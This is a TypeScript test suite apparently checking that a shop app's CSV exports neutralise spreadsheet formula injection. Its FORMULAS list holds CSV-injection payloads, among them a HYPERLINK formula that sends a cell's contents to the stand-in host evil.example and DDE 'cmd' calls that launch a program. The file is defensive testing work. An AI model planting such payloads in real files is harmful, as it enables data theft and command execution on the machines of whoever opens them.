// Formulas in every name, note and reason, through every file for spreadsheets: each is a cell of text, and nothing is lost.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../functions/app.ts';
import { type DeskShop, HILL, openDeskShop, TEA } from '../fixtures/desk-shop.ts';
import { ORIGIN } from '../fixtures/test-app.ts';
import { deliver, MATURE_AT } from '../fixtures/test-ledger.ts';
import { matureDue } from '../../functions/commissions/mature-due.ts';
import { storeEverywhere } from '../fixtures/words-of-people.ts';

/** OWASP, "CSV injection"; half and full width, behind blanks, and with what ends a cell. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"看")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '","=1+1',
  '"\r\n=1+1,"',
  '=1+1;=2+2',
];

const app = createApp(() => Promise.reject(new Error('only its routes are read')));
const written = app.routes.filter(({ path }) => path.endsWith('.csv'));
/** The address of a form, opened by hand, leads to its page. */
const byForm = new Set(written.flatMap(({ method, path }) => (method === 'POST' ? [path] : [])));
const files = written.flatMap(({ method, path }) => (method === 'POST' || !byForm.has(path) ? [{ method, path }] : []));

let shop: DeskShop;
const heard: string[] = [];
beforeAll(async () => {
  shop = await openDeskShop();
  const sold = [await shop.sell(HILL, { name: '=1+cmd|A0' }), await shop.sell(TEA), await shop.sell(HILL)];
  const [order] = sold;
  const [part] = order?.subOrders ?? [];
  const [line] = part?.lines ?? [];
  if (!order || !part || !line?.commission) throw new Error('an order without a commission');
  await deliver(shop.test, { order, part, lineId: line.id, commissionId: line.commission.id });
  await matureDue({ now: () => MATURE_AT }, shop.test.database);
  await storeEverywhere(shop.test.client, FORMULAS);
});
afterAll(() => shop.close());

describe('files for spreadsheets', () => {
  it('are known, all of them', () => {
    expect(files.length).toBeGreaterThan(8);
  });

  it.each(files)('$method $path', async ({ method, path }) => {
    const { status, bytes } = await download(method, path);
    expect([status, ...bytes.slice(0, 3)]).toEqual([200, 0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    const cells = readCells(text);
    expect(cells.length).toBeGreaterThan(0);
    heard.push(...cells);
    expect(cells.filter((cell) => isFormula(cell))).toEqual([]);
  });

  it('held the formulas as words', () => {
    expect(heard.filter((cell) => cell.startsWith("'")).length).toBeGreaterThan(20);
  });
});

async function download(method: string, path: string): Promise<{ status: number; bytes: Uint8Array }> {
  const cookie = path.startsWith('/portal/') ? shop.agent.cookie : shop.brand;
  // A file that was uploaded comes back in parts.
  const body = path.includes('/ship/') ? new FormData() : new URLSearchParams();
  if (method === 'POST') body.append('text', FORMULAS.map((one) => `${one},顺丰,SF1`).join('\n'));
  const headers = { Cookie: cookie, Origin: ORIGIN };
  const answer = await shop.app.fetch(
    new Request(ORIGIN + path, { method, headers, ...(method === 'POST' ? { body } : {}) }),
  );
  return { status: answer.status, bytes: new Uint8Array(await answer.arrayBuffer()) };
}

/** A plain amount below zero is a figure. */
function isFormula(cell: string): boolean {
  return /^\s*[=+\-@＝＋－＠]/.test(cell) && !/^-\d+(?:\.\d+)?$/.test(cell);
}

/** RFC 4180, as a spreadsheet reads it. */
function readCells(text: string): string[] {
  const cells = text.match(/"(?:[^"]|"")*"|[^,\r\n]+/g) ?? [];
  return cells.map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell));
}
